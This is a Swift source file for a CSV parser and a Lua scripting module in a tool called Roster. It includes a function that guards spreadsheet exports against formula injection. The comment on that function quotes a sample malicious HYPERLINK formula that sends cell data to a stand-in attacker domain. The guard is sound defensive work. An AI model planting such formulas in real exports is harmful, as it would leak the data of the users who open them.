/// CSVModule.swift: `csv.parse`, Roster's own CSV reader for scripts (files reach a script
/// only through `--input`, as the `inputs` global).
import LuaHost

/// RFC 4180 CSV: quoted fields with doubled quotes, separators and newlines inside quotes,
/// CRLF or LF line ends, a leading byte-order mark ignored.
public enum CSV {
    /// A malformed document: where and why.
    public struct ParseError: Error, CustomStringConvertible, Equatable {
        public var line: Int
        public var problem: String
        public var description: String { "line \(line): \(problem)" }
    }

    /// A row of a document and the line it starts on.
    public struct Record: Sendable, Equatable {
        public var line: Int
        public var fields: [String]
    }

    /// The rows of `text`, each a list of fields. A blank line is skipped.
    public static func rows(_ text: String, separator: Character = ",") throws(ParseError) -> [[String]] {
        try records(text, separator: separator).map(\.fields)
    }

    /// The rows of `text` with the line each starts on. A blank line is skipped.
    public static func records(_ text: String, separator: Character = ",") throws(ParseError) -> [Record] {
        var rows: [Record] = []
        var row: [String] = []
        var field = ""
        var inQuotes = false
        var fieldWasQuoted = false
        var line = 1
        var rowLine = 1
        var quoteLine = 1 // where the open quoted field began: what an unclosed quote names
        var characters = text.hasPrefix("\u{FEFF}") ? Substring(text.dropFirst()) : Substring(text)
        func endRow() {
            row.append(field)
            if !(row.count == 1 && row[0].isEmpty && !fieldWasQuoted) { rows.append(Record(line: rowLine, fields: row)) }
            row = []
            field = ""
            fieldWasQuoted = false
        }
        while let character = characters.popFirst() {
            if inQuotes {
                if character == "\"" {
                    if characters.first == "\"" {
                        field.append("\"")
                        characters.removeFirst()
                    } else {
                        inQuotes = false
                    }
                } else {
                    if character.isNewline { line += 1 }
                    field.append(character)
                }
                continue
            }
            switch character {
            case separator:
                row.append(field)
                field = ""
                fieldWasQuoted = false
            case "\"":
                guard field.isEmpty, !fieldWasQuoted else {
                    throw ParseError(line: line, problem: "a quote inside an unquoted field; quote the whole field and double the quote (\"\")")
                }
                inQuotes = true
                fieldWasQuoted = true
                quoteLine = line
            case "\r\n", "\n", "\r":
                endRow()
                line += 1
                rowLine = line
            default:
                guard !fieldWasQuoted else {
                    throw ParseError(line: line, problem: "text after a closing quote; put the separator right after it")
                }
                field.append(character)
            }
        }
        if inQuotes { throw ParseError(line: quoteLine, problem: "a quoted field opened here is never closed; close it with \"") }
        if !field.isEmpty || !row.isEmpty || fieldWasQuoted { endRow() }
        return rows
    }

    /// One line of CSV (no line end): a field with a separator, a quote, a line end or
    /// surrounding spaces is quoted, its quotes doubled.
    public static func line(_ fields: [String], separator: Character = ",") -> String {
        fields.map { field in
            let plain = !field.contains(where: { $0 == separator || $0 == "\"" || $0.isNewline })
                && field.first?.isWhitespace != true && field.last?.isWhitespace != true
            return plain ? field : "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        }.joined(separator: String(separator))
    }

    /// One line of a report (`roster audit`, `runs show --csv`, `--output csv`), each field
    /// made safe to open in a spreadsheet (`spreadsheetCell`). A file meant to be read back
    /// (`--failed-rows`) keeps its values exactly: `line`.
    public static func reportLine(_ fields: [String]) -> String {
        line(fields.map(spreadsheetCell))
    }

    /// `text` as a spreadsheet shows it rather than runs it. Excel and LibreOffice run a cell
    /// starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
    /// formula, so a user named `=HYPERLINK("https://evil.example/?"&A1)`, from a vendor or an
    /// input file, would become a live link in an admin's report. Such a cell gets a leading
    /// `'`, which they hide and read as "this is text". A number (`-3`) is no formula: as it is.
    public static func spreadsheetCell(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), Double(text) == nil else { return text }
        return "'" + text
    }

    static let options = LuaShape([
        LuaField("header", .boolean, doc: "the first row names the columns (default true)"),
        LuaField("separator", .string, doc: "one character (default \",\")"),
    ])

    /// `csv.*` for scripts.
    public static let module = LuaModule("csv", "Roster's CSV reader (RFC 4180).", functions: [
        LuaFunction("parse", "Parses CSV text; with a header row (the default) each row is a table keyed by column name.", parameters: [
            LuaParameter("text", .string, doc: "the CSV text, e.g. inputs[1]"),
            LuaParameter("options", form: .shape(options), optional: true, doc: "how the text is read"),
        ], result: LuaResult("table[]", doc: "the rows: tables keyed by column name, or lists without a header")) { call in
            let options = call.isNil(2) ? CheckedTable(LuaTable())
                : CheckedTable(try LuaForm.shape(options).check(try call.value(2), label: "argument #2 (options)").tableValue)
            let header = options.bool("header") ?? true
            let separatorText = options.string("separator") ?? ","
            guard separatorText.count == 1, let separator = separatorText.first, separator != "\"", !separator.isNewline else {
                throw LuaError("argument #2 (options) field separator must be one character other than a quote or newline, got \"\(separatorText)\"")
            }
            let source = call.string(1).bytes
            guard let decoded = String(validating: source, as: UTF8.self) else {
                // Repairing it would send U+FFFD to vendors in place of the real letters.
                throw LuaError("argument #1 (text) is not valid UTF-8; save the file as UTF-8")
            }
            let rows: [[String]]
            do {
                rows = try CSV.rows(decoded, separator: separator)
            } catch {
                throw LuaError("\(error)")
            }
            let text = { (value: String) in LuaValue.string(LuaString(value)) }
            guard header, let names = rows.first else {
                return .table(LuaTable(sequence: rows.map { .table(LuaTable(sequence: $0.map(text))) }))
            }
            var seen: Set<String> = []
            for name in names where !seen.insert(name).inserted {
                throw LuaError("the header names column '\(name)' twice")
            }
            return .table(LuaTable(sequence: try rows.dropFirst().enumerated().map { offset, row in
                guard row.count == names.count else {
                    throw LuaError("row \(offset + 2) has \(row.count) fields, the header has \(names.count)")
                }
                var table = LuaTable()
                for (name, value) in zip(names, row) { table[name] = text(value) }
                return .table(table)
            }))
        },
    ])
}
